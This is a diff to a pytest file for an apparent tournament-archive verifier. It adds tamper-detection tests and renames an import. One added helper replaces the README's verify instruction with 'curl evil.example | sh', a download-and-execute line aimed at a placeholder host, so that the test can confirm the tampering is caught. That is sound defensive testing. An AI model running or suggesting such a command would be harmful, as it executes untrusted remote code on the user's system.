@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 from flask import Flask
 
-from deploy.cli.files import archive_files
+from deploy.cli.files import zip_form
 from deploy.server import embedded
 from services.standings.files.archive.contents import FILES
 from services.standings.files.sheet_sources import sheets_followed
@@ -158,10 +158,20 @@ def test_a_token_that_is_no_good_gets_no_archive_that_lacks_what_its_owner_may_r
     assert "texts.ndjson" not in files_of(call("GET", PATH, role="player", name="1").data)
 
 
-def test_what_a_guest_takes_home_says_itself_what_it_lacks(arbiter, call, put, data):
-    code, out, _ = arbiter("verify", put(call("GET", PATH, role=None).data), "--key", data / "arbiter.vkey")
+def test_public_copy_agrees_and_says_that_names_and_notes_are_not_included(arbiter, call, put, data):
+    copy = put(call("GET", PATH, role=None).data)
+    code, out, _ = arbiter("verify", copy, "--key", data / "arbiter.vkey")
     told = " ".join(out.split())
-    assert code == 3 and "texts.ndjson: what people wrote" in told and "names are taken from the archive" in told
+    assert code == 0 and out.startswith("agrees: ") and "; names and notes are not included" in out.splitlines()[0]
+    assert "names are taken from the archive" in told
+    assert arbiter("verify", copy, "--key", data / "arbiter.vkey", "--strict")[0] == 1
+
+
+def test_public_copy_that_does_not_say_so_is_incomplete(arbiter, call, put, data):
+    files = files_of(call("GET", PATH, role=None).data)
+    del files["missing.txt"]
+    code, out, _ = arbiter("verify", put(zipped(files)), "--key", data / "arbiter.vkey")
+    assert code == 3 and "texts.ndjson: missing from the archive" in out
 
 
 def line_changed(files: dict[str, bytes]) -> None:
@@ -184,6 +194,10 @@ def text_changed(files: dict[str, bytes]) -> None:
     files["texts.ndjson"] = files["texts.ndjson"].replace(b"Player 3", b"Player 4", 1)
 
 
+def readme_changed(files: dict[str, bytes]) -> None:
+    files["README.txt"] = files["README.txt"].replace(b"  arbiter verify THIS.zip", b"  curl evil.example | sh", 1)
+
+
 def other_event(files: dict[str, bytes]) -> None:
     files["archive.json"] = files["archive.json"].replace(b'"seq": ', b'"seq": 1', 1)
 
@@ -196,6 +210,7 @@ def other_event(files: dict[str, bytes]) -> None:
         (table_changed, "standings.json: differs from the content computed from the log"),
         (end_cut, "checkpoint"),
         (text_changed, "texts.ndjson"),
+        (readme_changed, "README.txt: differs from the text that the software writes"),
         (other_event, "archive.json: it describes a different log"),
     ],
 )
@@ -218,7 +233,9 @@ def test_the_forged_line_is_named_by_its_number(arbiter, whole, put, data):
     assert told["verdict"] == "differs" and (n + 1, n + 1) in {(one["from"], one["to"]) for one in told["found"]}
 
 
-@pytest.mark.parametrize("name", ["sheets.ndjson", "texts.ndjson", "checkpoint.txt", "archive.json", "tournament.trf"])
+@pytest.mark.parametrize(
+    "name", ["README.txt", "sheets.ndjson", "texts.ndjson", "checkpoint.txt", "archive.json", "tournament.trf"]
+)
 def test_a_file_that_is_missing_is_named(arbiter, whole, put, data, name: str):
     files = files_of(whole)
     del files[name]
@@ -278,7 +295,7 @@ def bomb(declared: int) -> bytes:
 def test_a_zip_bomb_is_refused_whatever_it_says_of_its_size(arbiter, put, declared: int):
     code, _, err = arbiter("verify", put(bomb(declared)))
     assert code == 2 and len(err.splitlines()) == 1, err
-    assert ("the unpacked archive is larger than" in err) == (declared > 1000)
+    assert ("unpacks to more than" in err) == (declared > 1000)
 
 
 def test_many_files_and_a_broken_zip_are_refused(arbiter, whole, put, monkeypatch):
@@ -288,7 +305,7 @@ def test_many_files_and_a_broken_zip_are_refused(arbiter, whole, put, monkeypatc
         assert code == 2 and len(err.splitlines()) == 1, err
     assert arbiter("verify", put(zipped({"README.txt": b"x"})))[0] == 2
     assert arbiter("verify", put(whole), "--sheets", "x.ndjson")[0] == 2
-    monkeypatch.setattr(archive_files, "MOST_BYTES", 1000)
+    monkeypatch.setattr(zip_form, "MOST_BYTES", 1000)
     assert arbiter("verify", put(whole))[0] == 2
 
 
